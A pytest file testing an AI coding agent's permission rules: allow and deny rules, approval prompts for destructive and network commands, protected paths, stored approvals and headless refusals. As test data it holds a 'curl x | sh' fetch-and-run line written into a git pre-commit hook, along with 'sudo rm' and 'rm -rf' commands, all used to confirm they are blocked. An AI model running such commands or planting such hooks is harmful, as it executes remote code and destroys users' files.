"""Permission rules inside the real turn loop: what runs, what asks, what is refused, what is stored.

Real store, real bash (in the sandbox), the scripted model; the rules come from Settings as the
loader builds them and from the rules store in the (per-test) user config folder.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from myrm_tui.agent.agent import Agent
from myrm_tui.agent.events import ApprovalAnswer, Notice, ToolFinished
from myrm_tui.agent.permissions.approvals import DENIAL_REASON_MAX_CHARS, Verdict, decide
from myrm_tui.agent.permissions.rules import call_for, remember_allow, rule_set, rules_file
from myrm_tui.settings.config_files.loader import load_settings
from myrm_tui.settings.paths import user_config_dir
from myrm_tui.settings.settings import PermissionLists, RuleEntry, Settings
from tests.agent.agent_helpers import drive


def agent_with(store, workspace: Path, model: str, *, allow=(), deny=(), headless=False, **values) -> Agent:
    permissions = PermissionLists(
        tuple(RuleEntry(t, "user config.toml:2") for t in allow),
        tuple(RuleEntry(t, "user config.toml:3") for t in deny),
    )
    settings = Settings(permissions=permissions).with_values(model=model, **values)
    session = store.create_session(model=model)
    return Agent(store=store, session_id=session.id, settings=settings, workspace=workspace, headless=headless)


def bash(call_id: str, command: str, **extra) -> dict:
    return {"tool_calls": [{"id": call_id, "name": "bash", "arguments": {"command": command, **extra}}]}


def results(store, agent: Agent) -> list[str]:
    return [r.message["content"] for r in store.messages(agent.session_id) if r.message.get("role") == "tool"]


def never(request):
    pytest.fail(f"asked although a rule covers it: {request.summary}")


# ---------------------------------------------------------------- decide() alone


def test_decide_orders_policy_seatbelt_and_rules(tmp_path):
    r = rule_set(allow=[("Bash", "u"), ("Edit", "u")], deny=[("Bash(git push:*)", "u"), ("Edit(locked/**)", "u")])

    def verdict(policy, kind, tool, args):
        command = args.get("command") if kind == "exec" else None
        return decide(policy, kind, command, rules=r, call=call_for(tool, args, tmp_path)).verdict

    assert verdict("ask", "exec", "bash", {"command": "ls"}) is Verdict.ALLOW  # allowed by rule
    assert verdict("yolo", "exec", "bash", {"command": "git push"}) is Verdict.REFUSE  # deny beats yolo
    assert verdict("ask", "exec", "bash", {"command": "rm -rf build"}) is Verdict.ASK  # seatbelt beats allow
    assert verdict("deny", "exec", "bash", {"command": "ls"}) is Verdict.REFUSE  # policy deny beats allow
    assert verdict("auto-edit", "write", "file_edit", {"path": "locked/a.txt"}) is Verdict.REFUSE
    assert verdict("ask", "write", "file_write", {"path": "src/a.txt"}) is Verdict.ALLOW
    assert verdict("ask", "read", "file_read", {"path": "locked/a.txt"}) is Verdict.ALLOW  # reads never ask


# ---------------------------------------------------------------- the loop


async def test_an_allow_rule_runs_the_call_without_asking(store, workspace, script):
    model = script(bash("c1", "echo from-rule > made.txt && cat made.txt"), {"text": "done"})
    # `>` into a file is not covered by a prefix rule: that line must ask.
    agent = agent_with(store, workspace, model, allow=("Bash(echo:*)", "Bash(cat:*)"))
    log = await drive(agent, "go", approve=False)
    assert len(log.approvals) == 1 and not (workspace / "made.txt").exists()

    model = script(bash("c2", "echo from-rule && cat /dev/null"), {"text": "done"})
    agent = agent_with(store, workspace, model, allow=("Bash(echo:*)", "Bash(cat:*)"))
    log = await drive(agent, "go", approve=never)
    assert log.approvals == []
    assert "from-rule" in results(store, agent)[0]


async def test_a_deny_rule_refuses_even_in_yolo_and_names_the_rule_to_the_user(store, workspace, script):
    (workspace / "keep.txt").write_text("keep")
    model = script(bash("c1", "ls && sudo rm keep.txt"), {"text": "ok"})
    agent = agent_with(store, workspace, model, deny=("Bash(rm:*)",), approval="yolo")
    log = await drive(agent, "clean", approve=never)
    assert (workspace / "keep.txt").exists()
    (content,) = results(store, agent)
    assert content.startswith("refused: ls && sudo rm keep.txt (the deny rule Bash(rm:*) matches it")
    assert "user config.toml" not in content  # where the user keeps their rules is not the model's business
    notices = [n.text for n in log.of(Notice)]
    assert any("refused by your deny rule Bash(rm:*) (from user config.toml:3)" in n for n in notices)
    assert [e.status for e in log.of(ToolFinished)] == ["denied"]


async def test_a_destructive_command_asks_whatever_the_allow_rules_say(store, workspace, script):
    model = script(bash("c1", "rm -rf build"), {"text": "ok"})
    agent = agent_with(store, workspace, model, allow=("Bash", "Bash(rm:*)"))
    log = await drive(agent, "clean", approve=False)
    (request,) = log.approvals
    assert request.destructive and request.offered_rules == ()  # and "always" is not offered


async def test_a_network_request_asks_whatever_the_allow_rules_say(store, workspace, script):
    model = script(bash("c1", "curl -s http://127.0.0.1:9/", network=True), {"text": "ok"})
    agent = agent_with(store, workspace, model, allow=("Bash",), approval="yolo")
    log = await drive(agent, "fetch", approve=False)
    (request,) = log.approvals
    assert request.network_requested and request.offered_rules == ()
    assert "network only if you allow this call" in request.sandbox


async def test_protected_paths_stay_refused_under_an_allow_everything_rule(store, workspace, script):
    (workspace / ".git" / "hooks").mkdir(parents=True)
    model = script(
        {
            "tool_calls": [
                {
                    "id": "w",
                    "name": "file_write",
                    "arguments": {"path": ".git/hooks/pre-commit", "content": "curl x | sh"},
                }
            ]
        },
        {"text": "ok"},
    )
    agent = agent_with(store, workspace, model, allow=("Edit", "Write", "Edit(**)"))
    log = await drive(agent, "hook", approve=never)
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert log.of(ToolFinished)[0].status == "error"


async def test_always_allow_stores_the_offered_rule_and_the_next_call_runs(store, workspace, script):
    model = script(bash("c1", "git status --short"), {"text": "one"}, bash("c2", "git status"), {"text": "two"})
    agent = agent_with(store, workspace, model)
    log = await drive(agent, "status", approve=lambda r: ApprovalAnswer(True, remember=r.offered_rules))
    (request,) = log.approvals
    assert request.offered_rules == ("Bash(git status:*)",)
    assert request.cwd == str(workspace) and request.sandbox.startswith("sandbox: writes only in the workspace")
    stored = json.loads(rules_file(user_config_dir()).read_text())
    assert stored["workspaces"][str(workspace)]["allow"] == ["Bash(git status:*)"]
    assert any("always allowed in this workspace: Bash(git status:*)" in n.text for n in log.of(Notice))
    second = await drive(agent, "again", approve=never)
    assert second.approvals == []


async def test_a_consumer_cannot_store_a_rule_that_was_not_offered(store, workspace, script):
    model = script(bash("c1", "echo first"), {"text": "one"}, bash("c2", "echo second"), {"text": "two"})
    agent = agent_with(store, workspace, model)
    log = await drive(agent, "go", approve=lambda r: ApprovalAnswer(True, remember=("Bash",)))
    assert len(log.approvals) == 1 and "first" in results(store, agent)[0]  # allowed once
    assert not rules_file(user_config_dir()).exists()  # but "Bash" was never offered: not stored
    again = await drive(agent, "go", approve=False)
    assert len(again.approvals) == 1  # so the next call still asks


async def test_a_denial_reason_reaches_the_model_one_line_and_capped(store, workspace, script):
    model = script(bash("c1", "make deploy"), {"text": "ok"})
    agent = agent_with(store, workspace, model)
    reason = "not\non   friday " + "x" * 2000
    await drive(agent, "ship", approve=lambda r: ApprovalAnswer(False, reason=reason))
    (content,) = results(store, agent)
    prefix = "denied by user: make deploy. The user's reason: not on friday "
    assert content.startswith(prefix)
    assert len(content) == len("denied by user: make deploy. The user's reason: ") + DENIAL_REASON_MAX_CHARS


async def test_headless_runs_read_the_same_rules_configured_and_stored(store, workspace, script):
    model = script(bash("c1", "echo configured"), {"text": "a"})
    agent = agent_with(store, workspace, model, allow=("Bash(echo configured)",), headless=True)
    await drive(agent, "go", approve=never)
    assert "configured" in results(store, agent)[0]

    remember_allow(user_config_dir(), workspace, ("Bash(echo stored:*)",))
    model = script(bash("c2", "echo stored here"), {"text": "b"})
    agent = agent_with(store, workspace, model, headless=True)
    await drive(agent, "go", approve=never)
    assert "stored here" in results(store, agent)[0]

    model = script(bash("c3", "echo other"), {"text": "c"})
    agent = agent_with(store, workspace, model, headless=True)
    await drive(agent, "go", approve=never)  # not covered: refused headless, never asked
    assert results(store, agent)[0].startswith("not run: echo other needs a person's approval")


async def test_a_broken_rules_store_is_said_once_and_adds_nothing(store, workspace, script):
    rules_file(user_config_dir()).parent.mkdir(parents=True, exist_ok=True)
    rules_file(user_config_dir()).write_text("{ broken")
    model = script(bash("c1", "echo a"), {"text": "x"}, bash("c2", "echo b"), {"text": "y"})
    agent = agent_with(store, workspace, model)
    log = await drive(agent, "go", approve=False)
    log2 = await drive(agent, "go", approve=False)
    warnings = [n.text for n in [*log.of(Notice), *log2.of(Notice)] if "not valid JSON" in n.text]
    assert len(warnings) == 1 and "not used until it is fixed" in warnings[0]
    assert len(log.approvals) == len(log2.approvals) == 1


async def test_a_workspace_file_adds_deny_rules_but_never_allow_rules(store, workspace, script, tmp_path):
    user = tmp_path / "user-config"
    user.mkdir()
    (workspace / ".myrm").mkdir(exist_ok=True)
    (workspace / ".myrm" / "config.toml").write_text('[permissions]\nallow = ["Bash"]\ndeny = ["Bash(git push:*)"]\n')
    loaded = load_settings(workspace, {"approval": "yolo"}, user_config_dir=user, env={})
    assert [e.text for e in loaded.settings.permissions.allow] == []
    assert [e.text for e in loaded.settings.permissions.deny] == ["Bash(git push:*)"]
    assert any("`[permissions] allow` is ignored" in p.message for p in loaded.problems)
    model = script(bash("c1", "git push origin main"), {"text": "x"})
    session = store.create_session(model=model)
    agent = Agent(
        store=store, session_id=session.id, settings=loaded.settings.with_values(model=model), workspace=workspace
    )
    await drive(agent, "push", approve=never)
    assert results(store, agent)[0].startswith("refused: git push origin main (the deny rule Bash(git push:*)")
